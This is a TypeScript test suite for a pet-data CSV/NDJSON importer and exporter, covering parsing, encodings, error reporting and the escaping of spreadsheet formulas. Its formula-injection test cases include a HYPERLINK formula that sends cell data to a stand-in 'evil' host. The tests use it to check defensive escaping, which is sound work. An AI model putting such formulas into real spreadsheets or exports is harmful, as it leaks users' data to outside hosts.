import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { INT64_MAX, INT64_MIN } from '../contract/int64.ts'
import { type NewPet, PET_STATUSES, type Pet, petToJson, readNewPet } from '../contract/pet.ts'
import { csvLine, withFormulas, withoutFormulas } from './csv.ts'
import { UnknownEncoding } from './decode.ts'
import { csvLineOf, type Format, fileHead, importKeyOf, type PetFile, readPetFile } from './pet-file.ts'

const read = (text: string | Uint8Array, name = 'animals'): PetFile =>
  readPetFile(typeof text === 'string' ? new TextEncoder().encode(text) : text, name, readNewPet)

const text = fc
  .string({ unit: 'binary', minLength: 1, maxLength: 255 })
  .filter(text => /\P{White_Space}/u.test(text) && !text.includes('\0') && [...text].length <= 255)
const pet: fc.Arbitrary<Pet> = fc.record({
  id: fc.bigInt({ min: 1n, max: INT64_MAX }),
  name: fc.oneof(
    text,
    fc.constantFrom('"', ',', 'a\nb', '\r\nb', ' a ', '=1+1', '\ufeff', '\ufeffx', '[{"', '\\"', 'a\r'),
  ),
  categoryId: fc.bigInt({ min: INT64_MIN, max: INT64_MAX }),
  status: fc.constantFrom(...PET_STATUSES),
})
const write = (format: Format, pets: readonly Pet[]): string =>
  fileHead(format, false) +
  pets.map(pet => (format === 'csv' ? csvLineOf(pet, false) : `${petToJson(pet)}\n`)).join('')

test.each<Format>(['csv', 'ndjson'])('what is written as %s is read as the same animals', format =>
  fc.assert(
    fc.property(fc.array(pet, { minLength: 1 }), pets => {
      const { good, bad } = read(write(format, pets), `animals.${format}`)
      expect(bad).toEqual([])
      expect(good.map(({ pet }) => pet)).toEqual(pets.map(({ id: _, ...fields }) => fields))
    }),
  ),
)

describe('CSV', () => {
  test('takes columns in any order, ignores others, and accepts what people and spreadsheets write', () => {
    const { good, bad } = read(
      'Status, id ,CategoryId,name,note\r\n\ufeff,9, 7 ,"Rex, ""the"" dog",\r\n,,,,\r\nAvailable,,-1,Mia,x',
    )
    expect(bad).toEqual([])
    expect(good).toMatchObject([
      { line: 2, pet: { name: 'Rex, "the" dog', categoryId: 7n, status: 'available' }, occurrence: 1 },
      { line: 4, pet: { name: 'Mia', categoryId: -1n, status: 'available' }, occurrence: 1 },
    ])
  })

  test('names each bad row by the line on which it begins, and goes on with the next line', () => {
    const { good, bad } = read(
      'name,categoryId\n"two\nlines",7\n\nRex\nMax,07\n,7\nA"b,7\nIda,\n"open,7\nBo,9223372036854775808\nBo,8\nTom, the cat,7\n',
    )
    expect(good.map(({ line }) => line)).toEqual([2, 12])
    const notInt64 = `categoryId must be an integer from ${INT64_MIN} to ${INT64_MAX}`
    expect(bad).toMatchObject([
      { line: 5, problem: 'it has 1 field; the first line has 2' },
      { line: 6, problem: notInt64 },
      { line: 7, problem: 'name is required' },
      { line: 8, problem: 'a quotation mark is misplaced or not closed' },
      { line: 9, problem: 'categoryId is required' },
      { line: 10, problem: 'a quotation mark is misplaced or not closed' },
      { line: 11, problem: notInt64 },
      { line: 13, problem: 'it has 3 fields; the first line has 2' },
    ])
  })

  test('takes a name with as many line breaks as a name can have', () => {
    const name = `${'\n'.repeat(254)}x`
    expect(read(`name,categoryId\n"${name}",7\n`).good[0]?.pet.name).toBe(name)
  })
})

test('NDJSON names each bad line, and blank ones do not count', () => {
  const { good, bad } = read(
    '\ufeff{"name":"Rex","categoryId":7}\r\n\r\n{"name":"","categoryId":"7"}\nRex\n[]\n{"name":"Ida","categoryId":3.0}' +
      `\n[${Array(300).fill(0)}]`,
  )
  expect(good.map(({ line }) => line)).toEqual([1, 6])
  expect(bad.map(({ line }) => line)).toEqual([3, 4, 5, 7])
  expect([bad[1]?.problem, bad[3]?.problem]).toEqual(['it is not JSON', 'it has too many values'])
})

const utf16 = (text: string, isLittle = true): Uint8Array => {
  const bytes = Buffer.from(text, 'utf16le')
  return isLittle ? bytes : bytes.swap16()
}
const REX: NewPet = { name: 'Zoë, "Ω"', categoryId: 7n, status: 'sold' }

test.each<[string, string | Uint8Array]>([
  ['semicolons', 'name;categoryId;status\n"Zoë, ""Ω""";7;sold\n'],
  ['tabs', 'name\tcategoryId\tstatus\r\n"Zoë, ""Ω"""\t7\tsold\r\n'],
  ['a line that states the separator', 'sep=;\r\nname;categoryId;status\r\n"Zoë, ""Ω""";7;sold\r\n'],
  ['a line that states another separator', '"sep=,"\nname;categoryId;status\n"Zoë, ""Ω""";7;sold\n'],
  ['a comma in a heading', '"note, in words";name;categoryId;status\n;"Zoë, ""Ω""";7;sold\n'],
  ['CR line ends', 'name,categoryId,status\r"Zoë, ""Ω""",7,sold\r'],
  ['a column Category', 'Status,Category,Name\nsold,7,"Zoë, ""Ω"""\n'],
  [
    'names of categories beside their numbers',
    'Name,Category,Category ID,status\n"Zoë, ""Ω""",Dogs,7,sold\n',
  ],
  ['NDJSON with CR line ends', '{"name":"Zoë, \\"Ω\\"","categoryId":7,"status":"sold"}\r\r'],
  ['UTF-16', utf16('\ufeffname,categoryId,status\r\n"Zoë, ""Ω""",7,sold')],
  ['UTF-16, big-endian', utf16('\ufeffname\tcategoryId\tstatus\r\n"Zoë, ""Ω"""\t7\tsold', false)],
  ['UTF-16 without a mark', utf16('name,categoryId,status\r\n"Zoë, ""Ω""",7,sold')],
  ['UTF-16, big-endian, without a mark', utf16('name,categoryId,status\n"Zoë, ""Ω""",7,sold', false)],
])('a file with %s is read', (_what, content) => {
  const { good, bad } = read(content)
  expect([good.map(({ pet }) => pet), bad]).toEqual([[REX], []])
})

test('with CR line ends and a stated separator, rows have their line, and a name keeps its line break', () => {
  const { good, bad } = read('sep=,\rname,categoryId\r"a\nb",7\rRex,x\r')
  expect(good[0]?.pet.name).toBe('a\nb')
  expect(bad).toMatchObject([{ line: 4, text: 'Rex,x' }])
})

const latin1 = Buffer.from('name,categoryId\nZoë,7\n', 'latin1')
test.each<[string, string | Uint8Array, RegExp]>([
  ['Latin-1', latin1, /neither UTF-8 nor UTF-16.*save as CSV UTF-8.*iconv/],
  ['UTF-16 that is cut short', utf16('\ufeffname,categoryId\nRex,7').subarray(0, 35), /damaged/],
  ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 3]), /not a text file.*CSV or NDJSON/],
  ['text with a NUL', new TextEncoder().encode('name,categoryId\nR\0x,7'), /not a text file/],
  ['a ZIP', new Uint8Array([0x50, 0x4b, 3, 4, 0xff]), /an archive or spreadsheet.*save as CSV UTF-8/],
  [
    'an old spreadsheet file',
    new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]),
    /spreadsheet file.*save as CSV UTF-8/,
  ],
  ['a JSON array', ' [{"name":"Rex","categoryId":7}]', /JSON array.*one animal on each line/],
  ['an empty file', '\ufeff \n', /is empty/],
  ['no first line', 'Rex;7\n', /must list the columns.*"Rex;7"/],
  ['a column twice', 'name,category,status,status\n', /each once/],
  ['a file that is too large', new Uint8Array(32 * 1024 * 1024 + 1).fill(32), /larger than 32 MiB/],
])('%s is recognised and refused as a whole, with what to do', (_what, content, reason) =>
  expect(() => read(content)).toThrow(reason),
)

test('someone who sees the letters can say how Latin-1 is to be read', () => {
  expect(() => read(latin1)).toThrow(UnknownEncoding)
  expect(readPetFile(latin1, 'animals.csv', readNewPet, 'windows-1252').good[0]?.pet.name).toBe('Zoë')
})

describe('bad rows', () => {
  test('are a file to correct, with the problem first, that is as wrong as before and becomes right', () => {
    const head = 'name;categoryId;note'
    const rows = ['=1+1;=2;"-x;y"', 'Rex;', '"open;7', "'=1;dog;"]
    const { bad, corrections } = read([head, ...rows].join('\n'))
    const file = corrections(bad)
    expect(file.split('\r\n')).toEqual(
      [
        'What to change;name;categoryId;note',
        `categoryId must be an integer from ${INT64_MIN} to ${INT64_MAX};'=1+1;'=2;"'-x;y"`,
        'it has 2 fields; the first line has 3;Rex;',
        'a quotation mark is misplaced or not closed;"""open;7"',
        `categoryId must be an integer from ${INT64_MIN} to ${INT64_MAX};''=1;dog;`,
        '',
      ].map(line => line.replace(/^(it has 2 fields; the first line has 3)/, '"$1"')),
    )
    const again = read(file)
    expect([again.good, again.bad.length, again.notRead]).toEqual([[], 4, ['note']])
    expect(again.corrections(again.bad.slice(0, 1))).toBe(
      `${file.split('\r\n').slice(0, 2).join('\r\n')}\r\n`,
    )
    const corrected = read(file.replace("'=2", '7').replace('dog', '8'))
    expect(corrected.good.map(({ pet }) => pet.name)).toEqual(['=1+1', "'=1"])
    const ndjson = read('{"name":"Rex","categoryId":7}\n{"name":"","categoryId":7}\n')
    expect(ndjson.corrections(ndjson.bad)).toBe('{"name":"","categoryId":7}\n')
  })
})

test('the key of a row is made of its content and how often that occurred, wherever it stands in the file', () => {
  const keysOf = (text: string, run?: string) => read(text).good.map(row => importKeyOf(row, run))
  const first = keysOf('name,categoryId\nRex,7\nMia,8\nRex,7\n')
  expect(new Set(first).size).toBe(3)
  expect(keysOf('categoryId,name,status\n8,Mia,available\n1,New,\n7,Rex,\n7,Rex,\n')).toEqual(
    expect.arrayContaining(first),
  )
  // The same in every release, because an import may be repeated after an upgrade.
  const key = 'import-d3d1410e5ce4fd0c43b27dcf4a819fa0-1'
  const ndjson = '{"name":"Rex","categoryId":7}'
  expect([first[0], ...keysOf(ndjson), ...keysOf(ndjson, 'again')]).toEqual([key, key, `${key}-again`])
})

test('rows that differ in little have different keys', () => {
  const rows = Array.from({ length: 20_000 }, (_, index) => `R${index % 97},${index}`)
  const keys = read(`name,categoryId\n${rows.join('\n')}`).good.map(row => importKeyOf(row))
  expect(new Set(keys.map(key => key.slice(7, 23))).size).toBe(rows.length)
  expect(new Set(keys.map(key => key.slice(23, 39))).size).toBe(rows.length)
})

test.each([
  ['=HYPERLINK("http://evil/?"&A1)', `'=HYPERLINK("http://evil/?"&A1)`],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['  =1', "'  =1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['＝1', "'＝1"],
  ['Rex;=1', "Rex;'=1"],
  ['Rex"\n=1', `Rex"\n'=1`],
  ["'=1", "''=1"],
  ...['Rex', 'Mia-Lou', 'a=b', 'Rex & Mia', "'n Sync", '1 + 1', 'Zoë', 'a@b'].map(name => [name, name]),
])('for a spreadsheet %j is written as %j', (name, shown) => expect(withoutFormulas(name)).toBe(shown))

test('the apostrophes for spreadsheets can be taken away again', () =>
  fc.assert(
    fc.property(
      fc.oneof(text, fc.string({ unit: fc.constantFrom("'", '=', '-', ' ', '\t', '\n', ';', 'a') })),
      text => expect(withFormulas(withoutFormulas(text))).toBe(text),
    ),
  ))

test('an export for spreadsheets is read as the same animals, however it is separated', () =>
  fc.assert(
    fc.property(fc.array(pet, { minLength: 1 }), fc.constantFrom(',', ';', '\t'), (pets, separator) => {
      const rows = pets.map(({ id, name, categoryId, status }) =>
        csvLine([`${id}`, withoutFormulas(name), `${categoryId}`, status ?? ''], separator),
      )
      const file = fileHead('csv', true).replaceAll(',', separator) + rows.join('')
      expect(read(file).good.map(({ pet }) => pet)).toEqual(pets.map(({ id: _, ...fields }) => fields))
    }),
  ))

test('a column that was removed from an export for spreadsheets leaves no apostrophe in a name', () =>
  expect(read(`\ufeffname,categoryId,status\n'=1,7,sold\n`).good[0]?.pet.name).toBe('=1'))

test('without the byte order mark of our exports, an apostrophe is part of the name', () =>
  expect(read(`id,name,categoryId,status\n1,'=1,7,sold\n`).good[0]?.pet.name).toBe("'=1"))

test.each([
  ['a.csv', 'Id,name,categoryId,Category,State,\n7,Rex,7,Dogs,sold,x\n,Mia,7,Dogs,,\n'],
  [
    'a.ndjson',
    '{"id":7,"name":"Rex","categoryId":7,"Category":"Dogs","State":"sold"}\n[]\n{"name":"Mia","State":"","categoryId":7}\n',
  ],
])('in %s, columns that are not read are named, and rows with an identifier are known', (name, text) => {
  const { good, notRead } = read(text, name)
  expect([notRead, good.map(({ hasId }) => hasId)]).toEqual([
    ['Category', 'State'],
    [true, false],
  ])
})

test('a file for spreadsheets begins with a byte order mark and holds no formula', () => {
  const file =
    fileHead('csv', true) + csvLineOf({ id: 1n, name: '=1+1', categoryId: -5n, status: 'sold' }, true)
  expect(file).toBe("\ufeffid,name,categoryId,status\r\n1,'=1+1,-5,sold\r\n")
})
